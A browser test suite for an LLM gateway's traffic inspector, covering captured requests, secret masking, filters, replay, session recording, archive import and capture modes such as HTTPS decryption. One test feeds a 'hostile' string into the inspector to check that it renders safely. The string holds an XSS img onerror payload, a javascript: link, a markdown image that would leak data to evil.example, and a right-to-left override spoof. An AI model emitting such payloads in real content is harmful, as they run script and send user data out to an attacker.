/** The inspector: what was captured, what fills the context, who broke the cache; capture with all of it taken back; sessions; and where it is not there. */
import { assert, beforeAll, describe, it } from "vitest"
import type { Page } from "playwright-core"
import { browserPath, hello, world } from "./world.ts"

const token = "ingest-token-of-the-tests"
const hostile = `<img src=x onerror="alert(1)"> [click](javascript:alert(1)) ![p](https://evil.example/?q=secret) \u202Egnp.exe [bank](https://evil.example/x)`

const turnCount = 2_000

/** A conversation of 2,000 turns and 5 MB. */
const longBody = JSON.stringify({
  model: "gpt-4o",
  messages: Array.from({ length: turnCount }, (_, n) => ({
    role: n % 2 === 0 ? "user" : "assistant",
    content: `Turn number ${n + 1}. ${"word ".repeat(500)}`
  }))
})

const answer = (content: string) =>
  JSON.stringify({
    id: "c",
    object: "chat.completion",
    created: 1,
    model: "gpt-4o",
    choices: [{ index: 0, message: { role: "assistant", content }, finish_reason: "stop" }],
    usage: { prompt_tokens: 90, completion_tokens: 20, total_tokens: 110 }
  })

const question = (system: string, text: string) =>
  JSON.stringify({
    model: "gpt-4o",
    messages: [
      { role: "system", content: system },
      { role: "user", content: text }
    ],
    tools: [
      {
        type: "function",
        function: { name: "read_file", description: "Reads a file.", parameters: { type: "object" } }
      }
    ]
  })

const open = (page: Page, name: string) => page.getByRole("gridcell", { name }).first().click()

describe.skipIf(browserPath === null)("the inspector", () => {
  const { ask, enter, gateway, manage, upstream } = world({
    INSPECTOR_INTERNAL_INGEST_TOKEN: token,
    INSPECTOR_MAX_BODY_KB: "8192",
    INSPECTOR_HTTP_PROXY_PORT: "0"
  })

  const ingest = async (id: string, over: object = {}): Promise<void> => {
    const answered = await fetch(`${gateway().url}/api/tools/traffic-inspector/internal/ingest`, {
      method: "POST",
      headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
      body: JSON.stringify({
        id,
        timestamp: "2026-11-24T10:00:00.000Z",
        method: "POST",
        host: `${id}.example`,
        path: "/v1/chat/completions",
        source: "http-proxy",
        requestHeaders: { "content-type": "application/json", authorization: "Bearer sk-abcdefghijklmnopqrstuvwx9f3a" },
        requestBody: question("Answer briefly.", "Why?"),
        requestSize: 300,
        responseHeaders: { "content-type": "application/json" },
        responseBody: answer("Because."),
        responseSize: 200,
        status: 200,
        totalLatencyMs: 1_200,
        ...over
      })
    })
    assert.isTrue(answered.ok, await answered.text())
  }

  beforeAll(async () => {
    await manage("POST", "/api/providers", {
      provider: "openai",
      name: "work",
      apiKey: "sk-abcdefghijklmnopqrstuvwx1",
      baseUrl: upstream().url
    })
  })

  it("says why it is not there for who comes through a proxy, and asks for nothing else", async () => {
    const page = await enter("", { extraHTTPHeaders: { "x-forwarded-for": "192.0.2.7" } })
    await page.getByRole("link", { name: "Inspector" }).click()
    await page.getByRole("heading", { name: "Only on the gateway's own machine" }).waitFor()
    await page.getByText(/ssh -L/).waitFor()
    assert.strictEqual(await page.getByRole("navigation", { name: "Parts of the inspector" }).count(), 0)
  })

  it("says what to do while nothing is captured, and records the gateway's own traffic from there", async () => {
    const page = await enter("")
    await page.keyboard.press("g")
    await page.keyboard.press("i")
    await page.getByText("Nothing is captured yet.").waitFor()
    await page.getByRole("button", { name: "Record the gateway's own traffic" }).click()
    await page.getByText("Own traffic").first().waitFor()
    await ask("openai/gpt-4o-mini")
    await page.getByRole("gridcell", { name: "gpt-4o-mini" }).waitFor()
    await open(page, "gpt-4o-mini")
    await page.getByRole("article", { name: "Turn 1", exact: true }).getByText("Say hello in one word.").waitFor()
    await page.getByRole("article", { name: "Turn 2", exact: true }).getByText("Hello.").waitFor()
    await page.getByRole("link", { name: "The gateway's decision" }).click()
    await page.getByText(/Ordered by/).waitFor()
  })

  it("shows the parts of a request, and keeps which in the address", async () => {
    await ingest("parts")
    const page = await enter("inspector?id=parts")
    await page.getByRole("article", { name: "Turn 1", exact: true }).waitFor()
    await page.getByRole("link", { name: "Anatomy" }).click()
    await page.getByRole("img", { name: /What fills the context: tools/ }).waitFor()
    await page.getByRole("cell", { name: "tools[0]" }).waitFor()
    await page.getByRole("link", { name: "Headers" }).click()
    await page.getByRole("cell", { name: /\*\*\*/ }).waitFor()
    assert.notInclude(await page.locator("main").innerText(), "sk-abcdefghijklmnopqrstuvwx9f3a")
    await page.getByLabel(/Show secrets/).check()
    await page.getByRole("cell", { name: /\*\*\*/ }).waitFor()
    await page.getByRole("link", { name: "Timing" }).click()
    await page.getByRole("region", { name: "Captured request" }).getByRole("definition").getByText("1.2 s").waitFor()
    await page.getByRole("link", { name: "Cache", exact: true }).click()
    await page.getByText("Expected from the cache").waitFor()
    await page.getByRole("link", { name: "Raw" }).click()
    await page.getByRole("region", { name: "Request" }).getByText("Answer briefly.").first().waitFor()
    await page.waitForURL((url) => url.href.includes("tab=raw"))
    await page.reload()
    await page.getByRole("region", { name: "Request" }).getByText("Answer briefly.").first().waitFor()
  })

  it("filters by what is typed, keeps the filter in the address, and names what it does not understand", async () => {
    await ingest("wanted", { status: 503 })
    await ingest("other")
    const page = await enter("inspector")
    await page.getByRole("searchbox").fill("status:5xx host:wanted")
    await page.getByRole("gridcell", { name: "503" }).first().waitFor()
    await page.getByRole("gridcell", { name: /other\.example/ }).waitFor({ state: "detached" })
    await page.waitForURL((url) => decodeURIComponent(url.href).includes("status:5xx"))
    await page.getByRole("searchbox").fill("status:teapot")
    await page.getByText("Not understood: status:teapot").waitFor()
  })

  it("compares two requests", async () => {
    await ingest("before", { requestBody: question("Answer briefly.", "Why?") })
    await ingest("after", { requestBody: question("Answer at length.", "Why?") })
    const page = await enter("inspector?id=after&tab=diff&other=before")
    await page.getByText("1 change").waitFor()
    await page.getByText("Answer at length.").first().waitFor()
    await page.getByText(/A cache can serve about/).waitFor()
  })

  it("draws hostile answers as text: nothing of them runs, is loaded, or hides where it leads", async () => {
    await ingest("hostile", { responseBody: answer(hostile), requestBody: question(hostile, hostile) })
    const page = await enter("inspector?id=hostile")
    const turn = page.getByRole("article", { name: "Turn 3", exact: true })
    await turn
      .getByText(/evil\.example/)
      .first()
      .waitFor()
    const text = await turn.innerText()
    assert.include(text, "<img src=x")
    assert.include(text, "␣202E")
    assert.include(text, "bank (evil.example)")
    assert.strictEqual(await page.locator("main img").count(), 0)
    const links = await turn.locator("a").evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).href))
    assert.isTrue(links.every((href) => href.startsWith("https://evil.example/")))
  })

  it("stays quick with a conversation of 2,000 turns and 5 MB", async () => {
    assert.isAbove(longBody.length, 5_000_000)
    await ingest("long", { requestBody: longBody, requestSize: longBody.length })
    const page = await enter("inspector?id=long")
    await page.getByText("2,001 turns").waitFor()
    await page.getByRole("article", { name: "Turn 1", exact: true }).waitFor()
    const list = page.getByRole("region", { name: "Conversation" }).first()
    assert.isBelow(await page.locator("article.turn").count(), 60)
    const slowest = await list.evaluate(async (element) => {
      let most = 0
      for (let step = 0; step < 60; step++) {
        const began = performance.now()
        element.scrollTop += 4_000
        element.dispatchEvent(new Event("scroll"))
        await new Promise((resolve) => requestAnimationFrame(resolve))
        most = Math.max(most, performance.now() - began)
      }
      element.scrollTop = element.scrollHeight
      return most
    })
    assert.isBelow(slowest, 500)
    await page.getByRole("article", { name: "Turn 2,001", exact: true }).waitFor()
    assert.isBelow(await page.locator("article.turn").count(), 60)
    await page.getByRole("link", { name: "Raw" }).click()
    const request = page.getByRole("region", { name: "Request" }).first()
    await request.getByRole("button", { name: /Show all/ }).waitFor()
    assert.isBelow((await request.innerText()).length, 20_000)
  })

  it("replays a request through the gateway with another model, and says what is no JSON", async () => {
    upstream().answers.set("gpt-4o-mini", hello("gpt-4o-mini"))
    await ingest("again")
    const page = await enter("inspector?id=again&tab=replay")
    await page.getByLabel("Model").fill("openai/gpt-4o-mini")
    await page.getByRole("button", { name: "Send through the gateway" }).click()
    await page
      .getByRole("region", { name: "Answer" })
      .getByText(/Hello\./)
      .first()
      .waitFor()
    await page.getByRole("button", { name: "Change the body" }).click()
    await page.getByLabel("Body").fill("{no")
    await page.getByRole("button", { name: "Send through the gateway" }).click()
    await page.getByText("The body is no JSON object.").waitFor()
  })

  it("keeps a note, gives the request as a program, and opens it as a preset", async () => {
    await ingest("noted")
    const page = await enter("inspector?id=noted&tab=notes")
    await page.getByLabel("Note").fill("The first one after the upgrade.")
    await page.getByRole("button", { name: "Save the note" }).click()
    await page.getByText("The note is saved.").waitFor()
    await page
      .getByText(/\$GATEWAY_API_KEY/)
      .first()
      .waitFor()
    const record = await manage<{ annotation: string }>("GET", "/api/tools/traffic-inspector/requests/noted")
    assert.strictEqual(record.annotation, "The first one after the upgrade.")
    await page.getByRole("button", { name: "Open in the playground" }).click()
    await page.getByRole("heading", { level: 1, name: "Playground" }).waitFor()
  })

  it("records a session: live, recording, saved, viewing, and back", async () => {
    const page = await enter("inspector")
    await page.getByLabel("Name of the recording").fill("before <b>")
    await page.getByRole("button", { name: "Record", exact: true }).click()
    await page.getByText(/recording before <b>/).waitFor()
    await ingest("recorded", { timestamp: new Date().toISOString() })
    await page.getByText(/recording before <b>: 1/).waitFor()
    await page.getByRole("button", { name: "Stop recording" }).click()
    await page.getByText("viewing before <b>, as it was recorded").waitFor()
    await open(page, "recorded.example")
    await page.getByRole("link", { name: "Raw" }).click()
    await page.getByRole("region", { name: "Request" }).getByText("Answer briefly.").first().waitFor()
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("link", { name: "HAR" }).click()
    ])
    assert.strictEqual(download.suggestedFilename(), "session.har")
    await page.getByRole("link", { name: "Back to live" }).click()
    await page.getByRole("button", { name: "Record", exact: true }).waitFor()
    await page.getByRole("link", { name: "Sessions" }).click()
    await page.getByRole("button", { name: "Delete" }).click()
    await page.getByRole("dialog").getByRole("textbox").fill("before <b>")
    await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click()
    await page.getByText("No session was recorded yet.").waitFor()
  })

  it("imports an archive, and says what is none", async () => {
    const page = await enter("inspector/sessions")
    const field = page.getByLabel("Import a HAR or JSONL file")
    await field.setInputFiles({ name: "x.har", mimeType: "application/json", buffer: Buffer.from("not json") })
    await page.getByText(/This file is no JSON/).waitFor()
    await field.setInputFiles({ name: "x.har", mimeType: "application/json", buffer: Buffer.from('{"log":1}') })
    await page.getByRole("alert").getByText(/\S/).waitFor()
    const entry = {
      startedDateTime: "2026-11-24T10:00:00.000Z",
      time: 12,
      request: {
        method: "GET",
        url: "https://imported.example/x",
        httpVersion: "HTTP/1.1",
        headers: [],
        queryString: [],
        cookies: [],
        headersSize: -1,
        bodySize: 0
      },
      response: {
        status: 200,
        statusText: "OK",
        httpVersion: "HTTP/1.1",
        headers: [],
        cookies: [],
        content: { size: 2, mimeType: "text/plain", text: "ok" },
        redirectURL: "",
        headersSize: -1,
        bodySize: 2
      },
      cache: {},
      timings: { send: 0, wait: 12, receive: 0 }
    }
    const har = JSON.stringify({ log: { version: "1.2", creator: { name: "t", version: "1" }, entries: [entry] } })
    await field.setInputFiles({ name: "x.har", mimeType: "application/json", buffer: Buffer.from(har) })
    await page.getByRole("gridcell", { name: /imported\.example/ }).waitFor()
  })

  it("imports the lines of its own export as the same requests", async () => {
    const sessions = "/api/tools/traffic-inspector/sessions"
    interface Captured {
      readonly method: string
      readonly host: string
      readonly path: string
      readonly status: number
      readonly requestHeaders: object
      readonly responseBody: string | null
      readonly totalLatencyMs: number | null
      readonly note: string | null
    }
    const first = async () =>
      (await manage<{ sessions: ReadonlyArray<{ readonly id: string }> }>("GET", sessions)).sessions[0]?.id ?? ""
    const requestsOf = async (id: string) => {
      const { requests } = await manage<{ requests: ReadonlyArray<Captured> }>("GET", `${sessions}/${id}`)
      return requests.map(({ host, method, note, path, requestHeaders, responseBody, status, totalLatencyMs }) => ({
        host,
        method,
        note,
        path,
        requestHeaders,
        responseBody,
        status,
        totalLatencyMs
      }))
    }
    const before = await first()
    // One request is one line.
    const line = JSON.stringify(await manage("GET", `${sessions}/${before}/export.jsonl`))
    const page = await enter("inspector/sessions")
    const field = page.getByLabel("Import a HAR or JSONL file")
    const take = (text: string) =>
      field.setInputFiles({ name: "x.jsonl", mimeType: "application/jsonl", buffer: Buffer.from(text) })
    await take(`${line}\n{"id":"x"}\n`)
    await page.getByText("Line 2 is no exported request.").waitFor()
    await take(`${line}\n\n${line}\n`)
    await page.waitForURL(/session=/)
    await page
      .getByRole("gridcell", { name: /imported\.example/ })
      .first()
      .waitFor()
    const id = new URL(page.url()).searchParams.get("session") ?? ""
    const [original] = await requestsOf(before)
    assert.deepStrictEqual(await requestsOf(id), [original, original])
  })

  it("says what each way of capture changes, switches them, and restores all", async () => {
    const page = await enter("inspector/capture")
    const proxy = page.getByRole("region", { name: "HTTP proxy", exact: true })
    await page.getByText("Changes on this machine: the desktop's proxy setting, for a while").waitFor()
    await proxy.getByRole("button", { name: "Switch on" }).click()
    await proxy.getByText(/on port \d+/).waitFor()
    const decrypt = page.getByRole("region", { name: "Decrypt HTTPS in the proxy" })
    await decrypt.getByRole("button", { name: "Switch on" }).click()
    await decrypt.getByRole("button", { name: "Switch off" }).waitFor()
    await page.getByRole("button", { name: "Restore all" }).click()
    await page.getByText("All is as it was.").waitFor()
    const modes = await manage<{
      httpProxy: { running: boolean }
      tlsIntercept: { enabled: boolean }
      gateway: { enabled: boolean }
    }>("GET", "/api/tools/traffic-inspector/capture-modes")
    assert.isFalse(modes.httpProxy.running || modes.tlsIntercept.enabled || modes.gateway.enabled)
    assert.isTrue(await page.getByRole("button", { name: "Restore all" }).isDisabled())
  })

  it("says which agents there are, and saves the models that are answered here", async () => {
    const page = await enter("inspector/agents")
    const agent = page.getByRole("region", { name: "Claude Code" })
    await agent.getByText("Models answered here").click()
    await agent.getByRole("button", { name: "Add a model" }).click()
    await agent.getByLabel("The agent asks for").fill("claude-sonnet-4-5*")
    await agent.getByLabel("Answered by").fill("openai/gpt-4o")
    await agent.getByRole("button", { name: "Save the models" }).click()
    await page.getByText("The models are saved.").waitFor()
    const { mappings } = await manage<{ mappings: ReadonlyArray<{ targetModel: string }> }>(
      "GET",
      "/api/tools/agent-bridge/agents/claude-code/mappings"
    )
    assert.strictEqual(mappings[0]?.targetModel, "openai/gpt-4o")
    await agent.getByRole("button", { name: "Lead it here" }).click()
    await page
      .getByRole("dialog")
      .getByText(/The hosts file leads api\.anthropic\.com/)
      .waitFor()
    assert.isTrue(await page.getByRole("dialog").getByRole("button", { name: "Lead it here" }).isDisabled())
  })

  it("forgets all when its word was typed", async () => {
    await ingest("forgotten")
    const page = await enter("inspector")
    await page.getByRole("button", { name: "Forget all" }).click()
    await page.getByRole("dialog").getByRole("textbox").fill("forget")
    await page.getByRole("dialog").getByRole("button", { name: "Forget all" }).click()
    await page.getByText("Nothing is captured yet.").waitFor()
  })
})
